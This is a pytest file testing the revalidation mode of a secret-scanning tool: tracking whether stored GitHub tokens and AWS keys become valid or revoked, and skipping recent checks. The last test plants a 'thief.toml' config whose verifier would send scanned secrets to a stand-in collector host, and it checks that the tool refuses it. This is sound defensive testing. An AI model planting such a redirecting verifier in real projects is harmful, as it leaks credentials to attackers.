"""`keysweep sweep --revalidate`: the secrets in the store are asked about again without sweeping,
read back from the blob where they were seen; every change of status is recorded with its time."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.fixtures.fake_http import FakeHttpServer, Recorded, Reply, json_reply
from tests.fixtures.moto_server import MotoLab
from tests.sweep.conftest import Fleet
from tests.sweep.gitrepos import github_pat, make_repo
from tests.sweep.test_cli import ks

Factory = Callable[[], FakeHttpServer]


class GitHub:
    """A GitHub whose answer for the planted token can be switched between live and revoked."""

    def __init__(self, server: FakeHttpServer) -> None:
        self.server = server
        self.live = True
        server.route("GET", "/user", self._answer)

    def _answer(self, req: Recorded) -> Reply:
        if self.live and req.headers.get("authorization") == f"token {github_pat()}":
            return json_reply(200, {"login": "octocat"}, {"X-OAuth-Scopes": "repo"})
        return json_reply(401, {"message": "Bad credentials"})

    @property
    def asked(self) -> int:
        return len(self.server.at("/user"))


@pytest.fixture
def github(fake_http: Factory, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> GitHub:
    gh = GitHub(fake_http())
    monkeypatch.setenv("KEYSWEEP_GITHUB_URL", gh.server.url)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return gh


def revalidate(store: Path, *more: str) -> tuple[int, list[dict[str, object]], str]:
    code, out, err = ks("sweep", "--revalidate", "--store", str(store), "--format", "json", *more)
    return code, json.loads(out), err


def test_a_revoked_then_restored_token_is_followed_without_sweeping(tmp_path: Path, fleet: Fleet,
                                                                    github: GitHub) -> None:
    store = tmp_path / "ks.db"
    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
    code, _, err = ks("sweep", str(fleet.docs.path), "--store", str(store), "--verify")
    assert code == 1 and github.asked == 1, err
    commits_before = fleet.docs.path.joinpath(".git").stat().st_mtime

    github.live = False
    code, rows, err = revalidate(store)
    assert code == 0, err  # nothing live any more
    [row] = rows
    assert (row["path"], row["verification"]["status"], row["previous_status"], row["status"]) == (
        "ci.yml", "invalid", "valid", "changed")
    assert github.asked == 2 and "1 turned invalid" in err
    _, out, _ = ks("report", "--store", str(store), "--all", "--format", "json")
    [stored] = [r for r in json.loads(out) if r["path"] == "ci.yml"]
    assert (stored["resolved_reason"], stored["verification"]["status"]) == ("deactivated", "invalid")

    github.live = True  # the account was restored: the secret is live again, and open again
    code, rows, err = revalidate(store, "--new-only")
    assert code == 1 and [r["previous_status"] for r in rows] == ["invalid"], err
    _, out, _ = ks("report", "--store", str(store), "--format", "json")
    assert [r["path"] for r in json.loads(out)] == ["ci.yml"]

    code, rows, _ = revalidate(store, "--new-only")  # asked again, nothing changed
    assert code == 0 and rows == [] and github.asked == 4
    assert fleet.docs.path.joinpath(".git").stat().st_mtime == commits_before  # nothing swept or written there

    events = sqlite3.connect(store).execute(
        "SELECT before, after FROM verification_events ORDER BY id").fetchall()
    assert events == [(None, "valid"), ("valid", "invalid"), ("invalid", "valid")]
    assert github_pat().encode() not in store.read_bytes()


def test_older_than_leaves_recently_checked_secrets_alone(tmp_path: Path, fleet: Fleet, github: GitHub) -> None:
    store = tmp_path / "ks.db"
    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
    ks("sweep", str(fleet.docs.path), "--store", str(store), "--verify")
    code, rows, err = revalidate(store, "--older-than", "7d")
    assert (code, rows, github.asked) == (0, [], 1)
    assert "1 checked more recently, left alone" in err
    code, rows, _ = revalidate(store, "--older-than", "0m")
    assert code == 1 and github.asked == 2 and rows[0]["verification"]["status"] == "valid"
    code, _, err = ks("sweep", "--revalidate", "--store", str(store), "--older-than", "soon")
    assert code == 2 and "30m, 12h, 7d or 2w" in err


def test_a_secret_from_history_only_is_read_back_from_its_commit(tmp_path: Path, fleet: Fleet,
                                                                 github: GitHub) -> None:
    store = tmp_path / "ks.db"  # `web` added the token, then replaced it: it lives in one old commit only
    ks("sweep", str(fleet.web.path), "--store", str(store))
    code, rows, err = revalidate(store)
    assert code == 1, err
    [row] = rows
    assert row["path"] == "settings.py" and row["verification"]["identity"]["login"] == "octocat"
    assert row["previous_status"] == "not_checked"
    # what the live token can reach is kept in the store and reported from it, in the exposure story too
    _, out, _ = ks("report", "--store", str(store), "--all", "--format", "json")
    [stored] = json.loads(out)
    assert stored["verification"]["access"]["scopes"] == ["repo"]
    _, story, _ = ks("exposure", stored["fingerprint"], "--store", str(store))
    assert "can reach  scopes repo" in story


def test_a_repository_that_is_gone_is_one_line_and_the_others_are_checked(tmp_path: Path, fleet: Fleet,
                                                                          github: GitHub) -> None:
    import shutil

    store = tmp_path / "ks.db"
    other = make_repo(tmp_path / "elsewhere" / "api", {"deploy.sh": f"export GH={github_pat()}\n"})
    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
    ks("sweep", str(fleet.docs.path), str(other.path), "--store", str(store))
    shutil.rmtree(fleet.docs.path)
    code, rows, err = revalidate(store)
    assert code == 1 and [r["path"] for r in rows] == ["deploy.sh"], err
    assert f"{fleet.docs.path}: cannot read back its secrets" in err


def test_an_aws_key_pair_is_read_back_together_and_checked_against_sts(tmp_path: Path, aws: MotoLab,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    admin = aws.admin()
    ((key_id, secret),) = aws.user("deploy-bot")
    aws.enforce()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    repo = make_repo(tmp_path / "repos" / "infra", {
        "deploy/env.sh": f"aws_access_key_id = {key_id}\naws_secret_access_key = {secret}\n"})
    store = tmp_path / "ks.db"
    code, _, err = ks("sweep", str(repo.path), "--store", str(store))
    assert code == 1, err
    code, rows, err = revalidate(store)
    assert code == 1, err
    live = [r for r in rows if r["verification"]["status"] == "valid"]
    assert live and all(r["verification"]["identity"].get("arn", "").endswith("user/deploy-bot") for r in live)

    iam = aws.client("iam", *admin)
    iam.delete_access_key(UserName="deploy-bot", AccessKeyId=key_id)
    code, rows, err = revalidate(store, "--new-only")
    assert code == 0 and rows and {r["verification"]["status"] for r in rows} == {"invalid"}, err


def test_report_changes_lists_what_turned_valid_or_invalid(tmp_path: Path, fleet: Fleet, github: GitHub) -> None:
    store = tmp_path / "ks.db"
    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
    ks("sweep", str(fleet.docs.path), "--store", str(store), "--verify")
    github.live = False
    revalidate(store)
    code, out, err = ks("report", "--store", str(store), "--changes", "--format", "json")
    assert code == 0, err
    [row] = json.loads(out)
    assert (row["previous_status"], row["verification"]["status"]) == ("valid", "invalid")
    code, out, _ = ks("report", "--store", str(store), "--changes", "--format", "text")
    assert "ci.yml" in out and github_pat() not in out


def test_a_config_inside_a_swept_repository_cannot_redirect_the_store_s_secrets(
        tmp_path: Path, fleet: Fleet, github: GitHub, fake_http: Factory, monkeypatch: pytest.MonkeyPatch) -> None:
    store = tmp_path / "ks.db"
    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
    collector = fake_http()
    collector.route("GET", "/collect", lambda req: json_reply(200, {"ok": True}))
    hostile = make_repo(tmp_path / "repos" / "hostile", {
        # re-declares the GitHub token rule with a verifier of its own: it would receive the secrets
        "thief.toml": ("[[verifiers]]\nname = 'thief'\nbase = 'https://collector.example'\npath = '/collect'\n"
                       "headers = { Authorization = 'Bearer {secret}' }\n\n[[rules]]\nid = 'github-pat-classic'\n"
                       "description = 'x'\nseverity = 'high'\nkeywords = ['ghp_']\n"
                       "regex = '(ghp_[A-Za-z0-9]{36})'\nsecret_group = 1\nverifier = 'thief'\n"),
        ".keysweep.toml": "rules_files = ['thief.toml']\n"})
    ks("sweep", str(fleet.docs.path), str(hostile.path), "--store", str(store))
    monkeypatch.setenv("KEYSWEEP_THIEF_URL", collector.url)
    monkeypatch.chdir(hostile.path)
    for args in (["sweep", "--revalidate", "--store", str(store), "--format", "json"],
                 ["revoke", "--secret-from", str(tmp_path / "s.txt"), "--store", str(store), "--yes"]):
        (tmp_path / "s.txt").write_text(github_pat() + "\n")
        code, _, err = ks(*args)
        assert "inside a swept repository; ignored" in err, err
    assert collector.requests == []
    assert github.asked >= 1  # the secret went to GitHub only
